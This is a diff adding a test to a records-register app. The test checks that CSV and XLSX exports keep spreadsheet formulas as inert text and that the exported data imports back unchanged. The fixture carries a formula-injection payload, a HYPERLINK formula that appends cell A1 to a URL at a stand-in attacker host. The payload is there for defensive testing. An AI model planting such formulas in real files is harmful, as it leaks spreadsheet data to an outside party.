@@ -357,3 +357,28 @@ def test_json_register_takes_officials_and_the_old_single_official(client: TestC
     both = {**old, "number": 3, "officials": new["officials"]}
     response = client.post(url, headers=org["coordinator"], json=[both])
     assert response.status_code == 422
+
+
+def test_exports_keep_formulas_as_text_and_import_back_unchanged(client: TestClient) -> None:
+    org = create_organization(client)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Натисніть")'
+    rows = [
+        HEADER,
+        ["1.", formula, "Загальний відділ", "", "щороку"],
+        ["2.", "@SUM(1+1)", "Загальний відділ", "", "щороку"],
+    ]
+    imported = _import(client, org, _csv(rows))
+    assert imported.status_code == 201, imported.text
+
+    exported = _export(client, org, "csv")
+    table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    assert [table[1][1], table[2][1]] == ["'" + formula, "'@SUM(1+1)"]
+    sheet = openpyxl.load_workbook(io.BytesIO(_export(client, org, "xlsx").content)).active
+    assert sheet is not None
+    assert sheet["B2"].data_type == "s"  # a string, not a formula
+    assert sheet["B2"].value == "'" + formula
+
+    before = _export(client, org, "json").json()
+    assert _import(client, org, exported.content, replace="true").status_code == 201
+    assert _export(client, org, "json").json() == before
+    assert before[0]["name"] == formula
